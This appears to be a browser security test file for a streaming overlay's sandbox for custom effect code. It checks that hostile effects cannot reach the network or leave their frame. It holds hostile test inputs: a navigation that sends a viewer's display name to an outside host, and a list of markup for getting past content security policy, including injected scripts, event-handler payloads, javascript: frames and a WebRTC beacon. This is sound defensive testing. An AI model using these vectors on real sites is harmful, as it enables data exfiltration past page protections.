import assert from 'node:assert/strict'
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, beforeEach, describe, it } from 'node:test'
import { englishOf } from '../../src/kernel/text/store-text.ts'
import { pictureHosts } from '../../src/platforms/contract/picture-hosts.ts'
import { needs } from '../declare.ts'
import type { Browser, BrowserContext } from '../tools/playwright.ts'
import { hostileEffect, type Loot, type Outside } from './hostile-effect.ts'
import { openChromium } from './open-chromium.ts'
import { openLikeObs } from './open-like-obs.ts'
import { openOverlay } from './overlay-browser.ts'
import { createStageServer, type StageServer } from './overlay-stage.ts'
import { startTrap } from './trap.ts'

needs('chromium-127', 'chromium')

const lies = [undefined, { answer: null }, { answer: true }, { answer: -1 }, { answer: '' }]
const browsers = [
  ['the browser inside OBS', openLikeObs],
  ['the browser of a person', openChromium],
] as const

for (const [name, open] of browsers) {
  describe(`code of an effect in ${name}`, () => {
    let stage: StageServer
    let browser: Browser
    let context: BrowserContext
    let trap: Awaited<ReturnType<typeof startTrap>>
    let outside: Outside
    let caught: string[]

    before(async () => {
      trap = await startTrap()
      ;({ outside, caught } = trap)
      stage = await createStageServer()
      browser = await open()
      context = await browser.newContext({ viewport: { width: 1280, height: 720 } })
    })
    after(async () => {
      await browser?.close()
      await stage?.close()
      trap?.close()
    })
    beforeEach(() => trap.check())

    /** Why the page ended the effect with this code. */
    async function lastWords(js: string) {
      const id = stage.effect('custom', { js, seconds: 60 })
      const answer = await stage.until(
        () => stage.reports.find((report) => report.id === id && 'reason' in report),
        `what ${id} says`,
      )
      return 'reason' in answer ? englishOf(answer.reason) : ''
    }

    /** Replacing thousands of functions takes long, and on a busy machine the page may take the effect for one that hangs. */
    async function lastWordsInTime(js: string, tries = 5): Promise<string> {
      const said = await lastWords(js)
      return said === 'the effect does not respond' && tries > 1 ? lastWordsInTime(js, tries - 1) : said
    }

    it('that replaces every function of the page gets nothing by it, and reaches no network', async () => {
      const window = await openOverlay(context, stage.link)
      for (const lie of lies) {
        const said = await lastWordsInTime(hostileEffect(outside, lie))
        assert.match(said, /^the effect threw Error: \{"replaced":\d+,/, JSON.stringify(lie))
        const { replaced, ...got } = JSON.parse(said.replace(/^the effect threw Error: /, '')) as Loot
        assert.ok(replaced > 5000, `${replaced} functions were replaced`)
        assert.deepEqual(got, { makers: 0, elements: 0, frames: 0, realms: 0 }, JSON.stringify(lie))
        assert.deepEqual(caught, [], JSON.stringify(lie))
      }
      assert.equal(window.page.url(), stage.link)
      await window.page.close()
    })

    it('that leaves its frame takes nothing with it', async () => {
      const window = await openOverlay(context, stage.link)
      for (const way of ['href = ', 'replace']) {
        const js = `location.${way}('${outside.base}/?' + payload.data.userstate.displayname)`
        assert.equal(await lastWords(js), 'the effect tried to leave its frame')
      }
      assert.deepEqual(caught, [])
      await window.page.close()
    })

    it('of custom CSS loads pictures from this server and the platforms only', async () => {
      const window = await openOverlay(context, stage.link)
      // A connection is enough, with or without a certificate.
      const address = `${outside.base.replace('http:', 'https:')}/picture.png`
      const refused = await window.page.evaluate(async (url) => {
        const seen = new Promise((resolve) => {
          addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
        })
        document.documentElement.style.setProperty('background-image', `url(${url})`)
        return seen
      }, address)
      assert.equal(refused, 'img-src')
      assert.deepEqual(caught, [])
      const page = await fetch(stage.link)
      const [, sources = ''] = /img-src ([^;]*)/.exec(page.headers.get('content-security-policy') ?? '') ?? []
      const hosts = sources.split(' ').filter((source) => source !== "'self'" && source !== 'data:')
      assert.deepEqual(
        hosts,
        pictureHosts.map((host) => `https://${host}`),
      )
      await window.page.close()
    })

    it('that gets past the runner with markup of its own finds policies that let nothing run and nothing out', async () => {
      const frame = await fetch(new URL('/overlay/effect-frame', stage.link))
      const policies = frame.headers.get('content-security-policy') ?? ''
      assert.doesNotMatch(policies, /nonce|strict-dynamic/)
      const [, runner = ''] = /<script>(.*)<\/script>/s.exec(await frame.text()) ?? []
      const [, hash] = /'(sha256-[^']+)'/.exec(policies) ?? []
      const server = await serveMarkup(policies, hostileMarkup(outside, runner, hash ?? ''))
      const page = await context.newPage()
      await page.goto(server.url)
      server.close()
      // Time for a request, counted where the browser counts it.
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1500)))
      for (const name of ['outer', 'inner']) {
        const nested = await stage.until(() => page.frames().find((one) => one.name() === name), `the ${name} frame`)
        const state = await nested.evaluate(() => [document.documentElement.dataset.ran, typeof RTCPeerConnection])
        assert.deepEqual(state, [undefined, 'function'], `neither code nor the runner ran in the ${name} frame`)
      }
      assert.deepEqual(caught, [])
      await page.close()
    })
  })
}

/** Markup as a parser would see it that the runner had not changed. */
function hostileMarkup({ base, stun }: Outside, runner: string, hash: string): string {
  const quoted = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const mark = 'document.documentElement.dataset.ran = "code"'
  const code = `${mark}; new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }).createOffer()`
  const scripts = [
    `<script>${runner}</script>`,
    `<script>${code}</script>`,
    `<script src="${base}/integrity" integrity="${hash}" crossorigin></script>`,
    `<script type="module">${code}</script>`,
    `<img src="data:," onerror="${quoted(code)}"><svg onload="${quoted(code)}"></svg>`,
  ].join('')
  const document = `<html><body>${scripts}<iframe name="inner" srcdoc="${quoted(scripts)}"></iframe>`
  return [
    `<iframe name="outer" srcdoc="${quoted(document)}"></iframe>`,
    `<iframe src="about:blank"></iframe><iframe src="${base}/frame"></iframe>`,
    `<iframe src="data:text/html,${encodeURIComponent(scripts)}"></iframe>`,
    `<iframe src="javascript:${quoted(code)}"></iframe>`,
    `<object data="${base}/object"></object><embed src="${base}/embed">`,
    `<link rel="stylesheet" href="${base}/style"><link rel="prefetch" href="${base}/prefetch">`,
    `<link rel="modulepreload" href="${base}/preload" integrity="${hash}"><link rel="icon" href="${base}/icon">`,
    `<link rel="manifest" href="${base}/manifest"><base href="${base}"><img src="based">`,
    `<iframe srcdoc="${quoted(`<meta http-equiv="refresh" content="0;url=${base}/refresh">`)}"></iframe>`,
    scripts.replace(`<script>${runner}</script>`, ''),
  ].join('')
}

/** A page with a frame that has these policies and this markup. */
async function serveMarkup(policies: string, markup: string) {
  const server: HttpServer = createHttpServer((req, res) => {
    const isFrame = req.url === '/frame'
    const own = "default-src 'none'; frame-src 'self'"
    res.writeHead(200, {
      'Content-Type': 'text/html; charset=utf-8',
      'Content-Security-Policy': isFrame ? policies : own,
    })
    res.end(`<!doctype html>${isFrame ? markup : '<iframe sandbox="allow-scripts" src="/frame"></iframe>'}`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    close() {
      server.close()
      server.closeAllConnections()
    },
  }
}
